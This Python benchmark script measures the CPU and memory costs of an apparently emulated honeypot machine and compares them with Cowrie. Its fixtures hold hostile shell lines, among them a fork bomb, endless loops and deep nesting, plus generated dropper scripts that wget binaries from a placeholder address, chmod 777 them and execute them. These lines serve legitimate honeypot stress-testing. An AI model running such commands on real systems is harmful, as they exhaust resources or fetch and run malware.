"""What one machine costs: prints one JSON line.

`login_true_ms`: CPU of a new overlay, machine, log-in and the command ``true`` (a program of the image, run directly as
the log-in's shell). `machine_kb`: memory that it holds afterwards. `pipe_mb_s`: bytes from one process to another.
`turns_per_s`: how often the scheduler can switch between two processes that wait for each other. `fork_us`: fork and
wait.

With the recorded Debian image: `uname_ms` and `uname_kb` of a new overlay, log-in and ``uname -a``; `dropper_ms` of a
200-line script (a command a line) and of one with several programs in each; `grown_percent` of memory after
`--sessions` visits; `hostile_ms`, for each hostile line the CPU until it is ended or slowed (`kernel.pace`; what it
costs a second from then on is `slowed_ms_per_s`); `words_16k_parse_ms` of ``a;a;…``, and `line_1mb_parse_s` with
`line_2mb_ratio` (2.0 where parsing is linear). `cowrie` are Cowrie 3.1.4's figures where it has such.

    python bench/machine.py [--image FILE] [--rounds N] [--sessions N]
"""

from __future__ import annotations

import argparse
import gc
import json
import sys
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))

from tests.machine.kernel.support import CONNECTION, NOW, PERSONA, registered, small_image
from tests.machine.programs.support import installation, nothing_leaves

from urltrap.machine.api import Process, Run
from urltrap.machine.effects import Fetch
from urltrap.machine.fs.image import Image
from urltrap.machine.fs.overlay import Overlay
from urltrap.machine.kernel.job import KernelJob
from urltrap.machine.machine import Machine
from urltrap.machine.shell.dialect import DIALECTS
from urltrap.machine.shell.parser import next_command, open_parser
from urltrap.model.settings import SessionLimits

LIMITS = SessionLimits(steps_per_command=1_000_000_000, output_bytes=10_000_000_000)


def true(p: Process) -> Run:
    """The trivial program."""
    return 0
    yield


def chance() -> Callable[[int], int]:
    state = [1]

    def below(limit: int) -> int:
        state[0] = state[0] * 6_364_136_223_846_793_005 + 1 & (1 << 64) - 1
        return (state[0] >> 33) % limit

    return below


def new_machine(image: Image) -> Machine:
    return Machine(image, PERSONA, Overlay(image), entropy=chance(), limits=LIMITS)


def drive(job: KernelJob) -> None:
    now = NOW
    while job.exit_status is None or job.runnable:
        job.step(now)
        if not job.runnable and job.wake_at is not None:
            now = max(now, job.wake_at)


def one_visit(image: Image) -> tuple[Machine, KernelJob]:
    machine = new_machine(image)
    job = machine.login("root", CONNECTION, NOW).exec("true")
    drive(job)
    return machine, job


def run(image: Image, program: Callable[[Process], Run]) -> float:
    with registered("sh", program):
        job = new_machine(image).login("root", CONNECTION, NOW).exec("")
    start = time.process_time()
    drive(job)
    return time.process_time() - start


def pipe_program(total: int) -> Callable[[Process], Run]:
    def program(p: Process) -> Run:
        reading, writing = p.pipe()

        def writer(child: Process) -> Run:
            child.close(reading)
            block = b"x" * 65_536
            for _ in range(total // len(block)):
                yield from child.write(writing, block)
            return 0

        p.fork(writer)
        p.close(writing)
        while (yield from p.read(reading)):
            pass
        return 0

    return program


def ping_program(rounds: int) -> Callable[[Process], Run]:
    def program(p: Process) -> Run:
        there, to_child = p.pipe()
        back, to_parent = p.pipe()

        def child(c: Process) -> Run:
            for _ in range(rounds):
                yield from c.read(there, 1)
                yield from c.write(to_parent, b"x")
            return 0

        p.fork(child)
        for _ in range(rounds):
            yield from p.write(to_child, b"x")
            yield from p.read(back, 1)
        return 0

    return program


def fork_program(rounds: int) -> Callable[[Process], Run]:
    def program(p: Process) -> Run:
        for _ in range(rounds):
            p.fork(true)
            yield from p.wait()
        return 0

    return program


HOSTILE = {
    "loop": "while :; do :; done",
    "arithmetic loop": "for ((;;)); do ((i++)); done",
    "doubling": "a=x; while :; do a=$a$a; done",
    "braces": "echo {1..1000000}",
    "nested 10,000": "echo " + "$(" * 10_000 + "true" + ")" * 10_000,
    "fork bomb": ":(){ :|:& };:",
    "recursion": "f() { f; }; f",
    "awk loop": "awk 'BEGIN { while (1) i++ }'",
    "sed loop": "sed ':a;ba' <<< x",
    "yes": "yes",
}
COWRIE = {
    "uname_ms": 4.3,
    "session_kb": 90,
    "words_16k_ms": 5_800,
    "line_1mb": "refused above 16,384 characters",
}
PLAIN = "cd /tmp\n" + "\n".join(
    f"wget -q http://198.51.100.9/a{number}\nchmod 777 a{number}\n./a{number}\nrm -f a{number}"
    for number in range(50)
)
DROPPER = "#!/bin/bash\n" + "\n".join(
    f"""cd /tmp || cd /var/run || cd /mnt
x{number}=$(echo 198.51.100.{number % 250} | cut -d. -f4)
if [ $x{number} -gt 3 ]; then wget -q http://198.51.100.9/bins/arch{number} -O a{number}; else echo no > a{number}; fi
chmod 777 a{number}; rm -rf a{number}"""
    for number in range(50)
)


def spend(machine: Machine, line: str, seconds: float) -> float:
    """CPU seconds of a command within `seconds` of its own clock."""
    job = machine.login("root", CONNECTION, NOW).exec(line)
    job.receive_eof()
    now = NOW
    start = time.process_time()
    while now < NOW + seconds:
        for effect in job.step(now):
            if isinstance(effect, Fetch):
                job.fetched(effect.id, nothing_leaves(effect.request))
        if job.runnable:
            continue
        if job.wake_at is None:
            break
        now = max(now, job.wake_at)
    used = time.process_time() - start
    job.end()
    return used


def parse_seconds(text: str) -> float:
    """CPU seconds of parsing a text as bash does."""
    start = time.process_time()
    parser = open_parser(text, DIALECTS["bash"], line=1, extglob=False, aliases=None)
    while next_command(parser) is not None:
        pass
    return time.process_time() - start


def whole(sessions: int, rounds: int) -> dict[str, object]:
    """Figures of the recorded Debian image."""
    persona, image = installation("debian-12")

    def machine() -> Machine:
        return Machine(image, persona, Overlay(image), entropy=chance())

    def visit() -> Machine:
        made = machine()
        spend(made, "uname -a", 1)
        return made

    for _ in range(30):
        visit()
    start = time.process_time()
    for _ in range(rounds):
        visit()
    uname = (time.process_time() - start) / rounds
    gc.collect()
    tracemalloc.start()
    before = tracemalloc.get_traced_memory()[0]
    kept = [visit() for _ in range(50)]
    gc.collect()
    size = (tracemalloc.get_traced_memory()[0] - before) / len(kept)
    tracemalloc.stop()
    kept.clear()
    plain, dropper = (min(spend(machine(), script, 600) for _ in range(3)) for script in (PLAIN, DROPPER))
    for _ in range(1_000):
        visit()
    gc.collect()
    early = resident_kb()
    for _ in range(sessions):
        visit()
    gc.collect()
    grown = 100 * (resident_kb() - early) / early
    hostile = {
        name: round(1_000 * min(spend(machine(), line, 0.3) for _ in range(3)), 1)
        for name, line in HOSTILE.items()
    }
    later = spend(machine(), HOSTILE["loop"], 20.3) - hostile["loop"] / 1_000
    one, two = (
        min(parse_seconds("echo aaa $x;" * (count // 12)) for _ in range(3)) for count in (1 << 20, 1 << 21)
    )
    return {
        "uname_ms": round(uname * 1_000, 3), "uname_kb": round(size / 1_024, 1),
        "dropper_ms": round(plain * 1_000, 1), "heavy_dropper_ms": round(dropper * 1_000, 1),
        "sessions": sessions, "grown_percent": round(grown, 2), "hostile_ms": hostile,
        "slowed_ms_per_s": round(later * 1_000 / 20, 2),
        "words_16k_parse_ms": round(min(parse_seconds("a;" * 8_000) for _ in range(3)) * 1_000, 1),
        "words_16k_run_ms_until_slowed": round(spend(machine(), "a;" * 8_000, 0.05) * 1_000, 1),
        "line_1mb_parse_s": round(one, 2), "line_2mb_ratio": round(two / one, 2), "cowrie": COWRIE,
    }  # fmt: skip


def resident_kb() -> int:
    """Resident memory of this process."""
    pages = int(Path("/proc/self/statm").read_text().split()[1])
    return pages * 4


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--image", type=Path, help="an image as `Image.dumps` makes it; a small one without")
    parser.add_argument("--rounds", type=int, default=500)
    parser.add_argument("--sessions", type=int, default=10_000)
    options = parser.parse_args()
    image = Image.loads(options.image.read_bytes()) if options.image else small_image("sh")
    with registered("sh", true):
        for _ in range(20):
            one_visit(image)
        start = time.process_time()
        for _ in range(options.rounds):
            one_visit(image)
        login = (time.process_time() - start) / options.rounds
        gc.collect()
        tracemalloc.start()
        before = tracemalloc.get_traced_memory()[0]
        kept = [one_visit(image) for _ in range(50)]
        gc.collect()
        memory = (tracemalloc.get_traced_memory()[0] - before) / len(kept)
        tracemalloc.stop()
    total = 64 * 1_048_576
    figures = {
        "bench": "machine",
        "login_true_ms": round(login * 1_000, 3),
        "machine_kb": round(memory / 1_024, 1),
        "pipe_mb_s": round(total / 1_048_576 / run(image, pipe_program(total))),
        "turns_per_s": round(40_000 / run(image, ping_program(20_000))),
        "fork_us": round(run(image, fork_program(2_000)) / 2_000 * 1e6, 1),
        **whole(options.sessions, options.rounds),
    }
    print(json.dumps(figures))


if __name__ == "__main__":
    main()
